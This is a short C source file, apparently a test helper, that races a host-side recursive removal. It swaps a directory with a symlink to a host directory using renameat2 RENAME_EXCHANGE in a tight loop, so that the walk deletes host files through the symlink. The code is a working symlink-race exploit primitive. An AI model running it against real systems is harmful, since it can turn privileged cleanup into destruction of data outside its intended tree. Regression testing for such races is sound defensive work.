// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * root-swap - race a host-side tree walk: exchange the names A and B
 * (a directory full of files and a symlink to a host directory) with
 * renameat2(RENAME_EXCHANGE) as fast as it can, for SECONDS seconds at
 * most, so a walk that removes A/... by path finds the symlink there.
 * It writes its PID to PIDFILE first, then detaches (its own session)
 * and exits 0 at the end.  Usage: root-swap A B SECONDS PIDFILE
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>

int main(int argc, char **argv)
{
	time_t end;
	FILE *f;

	if (argc != 5) {
		fprintf(stderr, "usage: %s A B SECONDS PIDFILE\n", argv[0]);
		return 2;
	}
	f = fopen(argv[4], "w");
	if (!f || fprintf(f, "%d\n", (int) getpid()) < 0 || fclose(f) != 0) {
		perror(argv[4]);
		return 2;
	}
	(void) setsid();
	end = time(NULL) + atoi(argv[3]);
	/* a name the walk removed ends the race for it: go on until the end */
	while (time(NULL) < end)
		(void) renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
	return 0;
}
